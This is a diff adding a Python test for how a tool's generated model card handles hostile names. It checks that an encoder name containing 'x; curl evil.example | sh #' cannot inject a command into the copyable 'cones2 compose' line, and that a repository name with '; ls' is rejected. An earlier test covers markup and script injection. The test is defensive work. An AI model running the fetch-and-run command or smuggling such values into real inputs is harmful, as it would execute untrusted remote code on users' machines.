@@ -1,6 +1,8 @@
 """Subjects to the Hub and from it, over a real connection to a small Hub of this machine."""
 
 import json
+import re
+import shlex
 from collections.abc import Iterator
 from dataclasses import replace
 from pathlib import Path
@@ -93,6 +95,15 @@ def test_text_from_anyone_stays_text_in_the_card() -> None:
     evil = replace(RESIDUAL, encoder=replace(RESIDUAL.encoder, name="x\n---\n# <script> [a](b)"))
     lines = Publication("ted", evil, "mit").card("ann/ted").text.splitlines()
     assert not any(line.startswith(("# script", "---")) or "<" in line or "](b" in line for line in lines)
+
+
+def test_a_model_s_name_runs_nothing_where_readers_copy_the_command() -> None:
+    evil = replace(RESIDUAL, encoder=replace(RESIDUAL.encoder, name="x; curl evil.example | sh #"))
+    (command,) = re.findall("^cones2 compose .*", Publication("ted", evil, "mit").card("ann/ted").text, re.MULTILINE)
+    asked = shlex.split(command)
+    assert asked[asked.index("--model") + 1] == "x; curl evil.example sh #"
+    with pytest.raises(HubError, match="'ann/ted; ls' is no repository of the Hub: expected OWNER/NAME"):
+        Publication("ted", RESIDUAL, "mit").card("ann/ted; ls")
 
 
 def test_what_can_not_be_published(tmp_path: Path) -> None:
